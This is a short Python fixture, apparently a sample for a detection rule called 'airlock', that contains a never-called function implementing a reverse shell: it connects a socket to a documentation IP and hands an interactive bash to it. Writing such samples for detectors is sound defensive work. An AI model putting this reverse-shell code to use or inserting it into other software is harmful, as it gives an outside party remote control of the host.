# airlock rule test sample. Never executed by tests; the payload sits in a function
# that is never called, and uses only documentation IPs / .invalid hosts.
import socket
import subprocess


def _never():
    s = socket.socket()
    s.connect(("198.51.100.4", 443))
    subprocess.Popen(["/bin/bash", "-i"], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())
